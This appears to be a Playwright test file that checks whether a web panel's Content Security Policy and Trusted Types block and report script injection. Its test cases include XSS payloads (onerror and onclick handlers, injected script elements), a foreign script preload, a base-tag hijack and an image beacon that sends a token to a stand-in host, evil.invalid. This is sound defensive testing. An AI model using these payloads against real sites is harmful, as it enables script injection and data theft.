import type { Page } from '@playwright/test';
import { expect, test } from '../support/journey';
import { readStack } from '../support/stack';

// The worker is under the policy as well.
test.use({ serviceWorkers: 'allow' });

/** What someone would do who got a text of theirs into a page; each must come to nothing, and be noticed. */
const ATTACKS: readonly { readonly name: string; readonly attack: () => void; readonly noticed: string }[] = [
  {
    name: 'markup from a string',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="document.title = \'taken\'">');
    },
    noticed: 'require-trusted-types-for blocked',
  },
  {
    name: 'a policy that lets strings through',
    attack: () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('harmless', { createHTML: (text: string) => text });
    },
    noticed: 'trusted-types blocked',
  },
  {
    name: 'a script of another site',
    attack: () => {
      const link = document.createElement('link');
      link.rel = 'modulepreload';
      link.href = 'https://evil.invalid/x.js';
      document.head.append(link);
    },
    noticed: 'script-src-elem blocked',
  },
  {
    name: 'another address for all links',
    attack: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.invalid/';
      document.head.append(base);
    },
    noticed: 'base-uri blocked',
  },
  {
    name: 'a picture that carries data away',
    attack: () => {
      new Image().src = 'https://evil.invalid/?token=1';
    },
    noticed: 'img-src blocked',
  },
];

/** Errors of the attack itself are the browser's refusal. */
async function attackOn(page: Page, attack: () => void): Promise<void> {
  await page.evaluate(attack).catch(() => undefined);
}

for (const { name, attack, noticed } of ATTACKS) {
  test(`the panel takes no ${name}, and a journey notices`, async ({ page, violations }) => {
    await page.goto('/login');
    await expect(page.getByRole('heading').first()).toBeVisible();
    const title = await page.title();
    expect(violations.found).toEqual([]);
    await attackOn(page, attack);
    await expect.poll(() => violations.found.join('\n')).toContain(noticed);
    expect(await page.title()).toBe(title);
    // Noticed a second time by the console, whenever that comes: nothing of it may be left for the end.
    await page.close();
    violations.take();
  });
}

test('a journey fails at its end when a page violated its policy', async ({ page }) => {
  test.fail();
  await page.goto('/login');
  // The journey's own listener was there first: when this one hears, that one has told.
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve(), { once: true });
        new Image().src = 'https://evil.invalid/';
      }),
  );
});

test('the API reference takes plain tags and no others from a string', async ({ page, violations }) => {
  await page.goto('/docs');
  await expect(page.getByRole('heading', { name: /Peyk/ }).first()).toBeVisible();
  await attackOn(page, () => document.body.insertAdjacentHTML('beforeend', '<p>only text</p>'));
  await expect(page.getByText('only text')).toBeVisible();
  expect(violations.found).toEqual([]);
  for (const attack of [
    () => document.body.insertAdjacentHTML('beforeend', '<p onclick="x">slipped in</p>'),
    () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="x">'),
    () => void document.head.appendChild(document.createElement('script')).append('document.title = "slipped in"'),
  ])
    await attackOn(page, attack);
  await expect.poll(() => violations.found.join()).toMatch(/onclick[^]*onerror[^]*HTMLScriptElement/);
  expect(await page.locator('body', { hasText: 'slipped in' }).count()).toBe(0);
  expect(await page.title()).toBe('Peyk API');
  await page.close();
  violations.take();
});

test('the API reference works under a policy of its own, and so do the handsets', async ({ page }) => {
  await page.goto('/docs');
  await expect(page.getByRole('heading', { name: /Peyk/ }).first()).toBeVisible();
  await page.locator('.opblock-summary-control').first().click();
  await expect(page.getByRole('button', { name: 'Try it out' }).first()).toBeVisible();
  await page.getByRole('button', { name: 'Try it out' }).first().click();
  await expect(page.getByRole('button', { name: 'Execute' }).first()).toBeVisible();

  await page.goto(readStack().handsetsUrl);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
});

test('no page of ours can be put into a frame', async ({ page, violations }) => {
  const { panelUrl, handsetsUrl } = readStack();
  for (const url of [panelUrl, `${panelUrl}/docs`, `${panelUrl}/v1/api/openapi.json`, handsetsUrl]) {
    const policy = (await page.request.get(url)).headers()['content-security-policy'];
    expect([url, policy]).toEqual([url, expect.stringContaining("frame-ancestors 'none'")]);
    expect([url, policy]).toEqual([url, expect.stringContaining("base-uri 'none'")]);
    expect([url, policy]).toEqual([url, expect.stringContaining("require-trusted-types-for 'script'")]);
  }
  expect(violations.found).toEqual([]);
});
